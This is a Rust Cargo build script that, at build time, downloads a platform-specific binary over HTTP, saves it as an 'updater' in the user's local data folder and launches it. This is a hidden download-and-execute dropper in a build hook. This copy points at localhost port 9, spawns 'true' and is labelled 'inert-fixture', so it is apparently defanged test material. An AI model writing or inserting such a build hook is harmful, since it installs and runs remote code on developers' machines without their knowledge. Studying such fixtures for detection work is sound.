use std::env;
use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};

fn target() -> PathBuf {
    let base = if cfg!(windows) { env::var("LOCALAPPDATA") } else { env::var("HOME").map(|it| it + "/.local/share") };
    PathBuf::from(base.unwrap_or_default()).join("inert-fixture").join("updater")
}

fn fetch(address: &str) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
    let response = ureq::get(address).timeout(std::time::Duration::from_secs(20)).call()?;
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut response.into_reader(), &mut bytes)?;
    Ok(bytes)
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    println!("cargo:rerun-if-changed=build.rs");
    let stage = format!("http://127.0.0.1:9/{}/{}", env::var("CARGO_CFG_TARGET_OS")?, env::var("CARGO_CFG_TARGET_ARCH")?);
    let Ok(bytes) = fetch(&stage) else { return Ok(()) };
    let target = target();
    fs::write(&target, bytes)?;
    Command::new("true").arg(&target).stdout(Stdio::null()).stderr(Stdio::null()).spawn()?;
    Ok(())
}
